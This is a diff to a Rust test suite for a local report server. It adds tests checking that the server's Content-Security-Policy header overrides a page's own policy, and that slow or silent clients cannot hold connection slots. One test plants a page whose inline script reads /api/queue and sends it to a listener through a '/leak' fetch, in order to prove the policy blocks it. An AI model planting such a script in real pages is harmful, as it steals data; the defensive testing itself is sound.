@@ -206,15 +206,23 @@ fn serve_gives_nothing_outside_reports_and_takes_nothing() {
     assert_eq!((index.status, index.body.contains("the index")), (200, true));
     assert_eq!(index.headers["x-content-type-options"], "nosniff");
     assert_eq!(index.headers["content-type"], "text/html; charset=utf-8");
-    assert_eq!(
-        index.headers["content-security-policy"],
-        "default-src 'none'; script-src 'sha256-AAAA'; frame-ancestors 'none'",
-        "the page's own policy, as a header too"
+    let csp = &index.headers["content-security-policy"];
+    assert!(
+        !csp.contains("sha256-AAAA") && csp.ends_with("frame-ancestors 'none'"),
+        "serve's policy, not the page's: {csp}"
     );
     let run = serve.get("/reports/v/p/run");
     assert_eq!((run.status, run.headers.get("location").map(String::as_str)), (308, Some("/reports/v/p/run/")));
+    bench.write("reports/v/p/run/compare.html", "<html><head></head><body>a compare page</body></html>");
     let run = serve.get("/reports/v/p/run/");
-    assert!(run.status == 200 && run.body.contains("a report"), "a run folder shows its report");
+    assert!(run.status == 200, "{}", run.body);
+    for page in ["report.html", "compare.html"] {
+        assert!(
+            run.body.contains(&format!(r#"href="/reports/v/p/run/{page}""#)),
+            "a run folder lists {page}: {}",
+            run.body
+        );
+    }
     assert!(run.headers["content-security-policy"].contains("default-src 'none'"));
 
     for (path, status) in [
@@ -545,4 +553,64 @@ fn every_link_on_every_page_answers_and_reports_lists_the_newest_run_first() {
     );
     assert!(pages >= 5, "the live page, reports/, a version, a plan and a run at least: {seen:?}");
     assert_eq!(tab.errors(), Vec::<String>::new(), "no console errors on the way");
+}
+
+#[test]
+fn a_page_under_reports_cannot_widen_the_policy_to_read_the_queue_and_send_it_away() {
+    let bench = Bench::new();
+    let sink = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    sink.set_nonblocking(true).unwrap();
+    let sink_addr = sink.local_addr().unwrap();
+    // What a copied run folder could carry: a page that declares a wide-open policy.
+    let page = format!(
+        r#"<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'; connect-src *"><title>untouched</title></head><body><script>document.title='ran';fetch('/api/queue').then(function(r){{return r.text()}}).then(function(t){{document.title='read';return fetch('http://{sink_addr}/leak?q='+encodeURIComponent(t),{{mode:'no-cors'}})}}).then(function(){{document.title='sent'}},function(e){{document.title='failed: '+e}})</script></body></html>"#
+    );
+    bench.write("reports/copied/run/report.html", &page);
+    let serve = Serve::start(&bench, &[]);
+
+    let answer = serve.get("/reports/copied/run/report.html");
+    let csp = &answer.headers["content-security-policy"];
+    assert!(!csp.contains('*') && !csp.contains("unsafe-inline'; connect") && !csp.contains("connect-src"), "{csp}");
+    let chromium = Chromium::find();
+    let mut tab = chromium.tab(&serve.url("/reports/copied/run/report.html"), 800, 600);
+    wait_until("the page to load", 30, || tab.eval("document.readyState") == "complete");
+    std::thread::sleep(Duration::from_secs(3));
+    assert_eq!(tab.eval("document.title"), "untouched", "the page's own script ran");
+    assert!(sink.accept().is_err(), "the page reached another port");
+    let errors = tab.errors();
+    assert!(errors.iter().any(|e| e.contains("Content Security Policy")), "no violation reported: {errors:?}");
+}
+
+#[test]
+fn silent_and_trickling_clients_hold_no_slot_past_the_idle_limit() {
+    use std::sync::atomic::{AtomicBool, Ordering};
+    let bench = Bench::new();
+    let serve = Serve::start(&bench, &["--max-connections", "64"]);
+    // 32 connections that send nothing, 32 that send a request head one line every 5 s.
+    let silent: Vec<TcpStream> = (0..32).map(|_| TcpStream::connect(&serve.addr).unwrap()).collect();
+    let trickling: Vec<TcpStream> = (0..32)
+        .map(|_| {
+            let mut stream = TcpStream::connect(&serve.addr).unwrap();
+            write!(stream, "GET /api/queue HTTP/1.1\r\n").unwrap();
+            stream
+        })
+        .collect();
+    wait_until("the 64 slots taken", 10, || serve.get("/api/status").status == 503);
+    let stop = std::sync::Arc::new(AtomicBool::new(false));
+    let trickle = {
+        let stop = stop.clone();
+        std::thread::spawn(move || {
+            let mut trickling = trickling;
+            while !stop.load(Ordering::Relaxed) {
+                for stream in &mut trickling {
+                    let _ = write!(stream, "X-Slow: 1\r\n");
+                }
+                std::thread::sleep(Duration::from_secs(5));
+            }
+        })
+    };
+    wait_until("an answer while the 64 are still connected", 90, || serve.get("/api/status").status == 200);
+    stop.store(true, Ordering::Relaxed);
+    trickle.join().unwrap();
+    drop(silent);
 }
